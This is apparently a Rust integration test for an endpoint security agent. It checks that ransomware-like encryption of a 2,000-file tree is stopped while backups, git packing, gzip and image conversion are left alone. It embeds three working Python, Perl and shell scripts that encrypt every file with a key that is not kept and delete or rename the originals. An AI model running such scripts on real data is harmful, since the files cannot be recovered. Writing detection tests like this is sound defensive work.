//! Whole trees of files are encrypted, and packed and converted by those whose files they are.
//!
//! The policy's cap lets no agent isolate: what saves the files is the end of who encrypts them.

use super::*;

const FILES: usize = 2000;

/// Two thousand documents of 2 to 60 KB, which nobody has made just now: the newest of a directory may be a copy of
/// somebody's own.
const TREE: &str = r"
import os, random
random.seed(11)
words = 'invoice meeting agenda budget plan customer order delivery contract minutes draft final review'.split()
for i in range(2000):
    folder = '/srv/data/%s/%d' % (('team', 'sales', 'legal', 'lab')[i % 4], i // 80 % 10)
    os.makedirs(folder, exist_ok=True)
    end = ('odt', 'txt', 'csv', 'md', 'xml')[i % 5]
    text = ' '.join(random.choice(words) for _ in range(300 + i * 37 % 8000))
    open('%s/%s-%04d.%s' % (folder, words[i % 13], i, end), 'w').write(text)
";

/// Over each file, and a new name.
const IN_PLACE: &str = r"
import pathlib, secrets, hashlib
key = secrets.token_bytes(32)
for path in sorted(pathlib.Path('/srv/data').rglob('*')):
    if path.is_file():
        text = path.read_bytes()
        stream = hashlib.shake_128(key + bytes(path)).digest(len(text))
        path.write_bytes(bytes(a ^ b for a, b in zip(text, stream)))
        path.rename(str(path) + '.wcry')
";

/// A new file beside each, closed after the old one is gone.
const BESIDE: &str = r#"
use strict; use warnings; use File::Find; use Digest::SHA qw(sha512);
my $key = join '', map { chr int rand 256 } 1..32; my @files;
find(sub { push @files, $File::Find::name if -f }, '/srv/data');
for my $path (@files) {
  open my $in, '<:raw', $path or next; local $/; my $text = <$in>; close $in;
  my ($stream, $n) = ('', 0);
  while (length $stream < length $text) { $stream .= sha512($key . $path . $n++) }
  open my $out, '>:raw', "$path.crypted" or next;
  print $out ($text ^ substr($stream, 0, length $text)); unlink $path;
}
"#;

/// A process for each file.
const FILE_BY_FILE: &str = r#"
key=$(od -An -N16 -tx1 /dev/urandom | tr -d ' \n')
find /srv/data -type f | while read -r path; do
  openssl enc -aes-256-ctr -K "$key$key" -iv "$key" -in "$path" -out "$path.sealed"
  rm -f "$path"
done
"#;

/// PNG in place of raw pictures.
const CONVERT: &str = r"
import pathlib, struct, zlib
def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
for path in sorted(pathlib.Path('/srv/data').rglob('*.*')):
    data = path.read_bytes(); width = 40; height = len(data) // (3 * width)
    rows = b''.join(b'\0' + data[y * 120:(y + 1) * 120] for y in range(height))
    head = struct.pack('>IIBBBBB', width, height, 8, 2, 0, 0, 0)
    png = chunk(b'IHDR', head) + chunk(b'IDAT', zlib.compress(rows)) + chunk(b'IEND', b'')
    path.with_suffix('.png').write_bytes(b'\x89PNG\r\n\x1a\n' + png)
    path.unlink()
";

const BACK_UP: &str = "
tar cf - -C /srv data | gpg --batch --pinentry-mode loopback --passphrase-file /root/.backup-key \
    --symmetric --output /var/backups/data.tar.gpg
";

const STORE: &str = "
cd /srv/data && git init -q . && git add -A && git -c user.name=a -c user.email=a@b commit -qm all
git repack -adq && git gc -q --prune=now && rm -rf .git
";

/// A fleet whose ep1 has a disk of its own for data that its agent watches, and ends who attacks.
fn stopping_fleet() -> Fleet {
    let fleet = Fleet::up(&options(1), &Narrator::to_stderr()).unwrap();
    kill_and_stay_open(&fleet);
    let node = fleet.node("ep1").unwrap();
    node.succeed(&["mount", "-t", "tmpfs", "data", "/srv"])
        .unwrap();
    let counted = || {
        let many =
            "for i in $(seq 40); do echo > /srv/$i; done; rm /srv/*; cordon-agent status --json";
        let status: Value = serde_json::from_str(&node.succeed(&["sh", "-c", many])?)?;
        let rates = status["events_by_class"]["file_rates"].as_u64();
        Ok((rates > Some(0)).then_some(()))
    };
    wait::until("the new disk being watched", LIMIT, counted).unwrap();
    for (path, text) in [
        ("/opt/tree.py", TREE),
        ("/opt/in_place.py", IN_PLACE),
        ("/opt/beside.pl", BESIDE),
        ("/opt/file_by_file.sh", FILE_BY_FILE),
        ("/opt/convert.py", CONVERT),
        ("/usr/local/sbin/back-up", BACK_UP),
        ("/usr/local/sbin/store", STORE),
        ("/root/.backup-key", "correct horse"),
    ] {
        node.write(path, text).unwrap();
    }
    node.succeed(&["mkdir", "-p", "/var/backups"]).unwrap();
    fleet
}

fn plant(node: &Node) {
    let again = "rm -rf /srv/data; exec python3 /opt/tree.py";
    node.succeed(&["sh", "-c", again]).unwrap();
}

/// Documents that can still be read.
fn documents(node: &Node) -> usize {
    let count = "find /srv/data -type f -name '*-[0-9][0-9][0-9][0-9].[a-z]*' | grep -cE '(odt|txt|csv|md|xml)$'";
    let said = node.exec(&["sh", "-c", count]).unwrap();
    String::from_utf8_lossy(&said.stdout)
        .trim()
        .parse()
        .unwrap()
}

fn stops(fleet: &Fleet) -> usize {
    of_kind(&events(fleet, "ep1"), "stop").len()
}

#[test]
fn who_encrypts_a_tree_is_stopped_when_little_of_it_is_gone() {
    let fleet = stopping_fleet();
    let node = fleet.node("ep1").unwrap();
    for attack in [
        ["python3", "/opt/in_place.py"],
        ["perl", "/opt/beside.pl"],
        ["bash", "/opt/file_by_file.sh"],
    ] {
        plant(node);
        let before = stops(&fleet);
        let mut attacker = node.spawn(&attack, "/var/log/attack.log").unwrap();
        attacker.wait(LIMIT).unwrap();
        let left = documents(node);
        eprintln!("{attack:?}: {} of {FILES} documents gone", FILES - left);
        assert!(left > FILES * 98 / 100, "{attack:?}: {left} are left");
        let told = || Ok((stops(&fleet) > before).then_some(()));
        wait::until("word of the kill", LIMIT, told)
            .unwrap_or_else(|error| panic!("{attack:?}: {error:#}\n{}", fleet.agent_log("ep1")));
    }
}

#[test]
fn who_packs_stores_or_converts_his_own_tree_is_let_alone() {
    let fleet = stopping_fleet();
    let node = fleet.node("ep1").unwrap();
    plant(node);
    for work in [
        &["sh", "/usr/local/sbin/back-up"][..],
        &["sh", "/usr/local/sbin/store"],
    ] {
        node.succeed(work).unwrap();
        assert_eq!(documents(node), FILES, "{work:?}");
    }
    for work in [
        &["gzip", "-r", "/srv/data"][..],
        &["python3", "/opt/convert.py"],
    ] {
        plant(node);
        node.succeed(work).unwrap();
        assert_eq!(documents(node), 0, "{work:?}");
    }
    node.succeed(&["test", "-s", "/var/backups/data.tar.gpg"])
        .unwrap();
    // What was judged is told by now: this one comes after it.
    fleet
        .ctl(&["isolate", "ep1", "--reason", "the end"])
        .unwrap();
    let isolated = |host: &Value| host["isolation"]["state"] == "confirmed";
    fleet.wait_host("ep1", "isolated", LIMIT, isolated).unwrap();
    assert_eq!(stops(&fleet), 0, "{}", fleet.agent_log("ep1"));
}
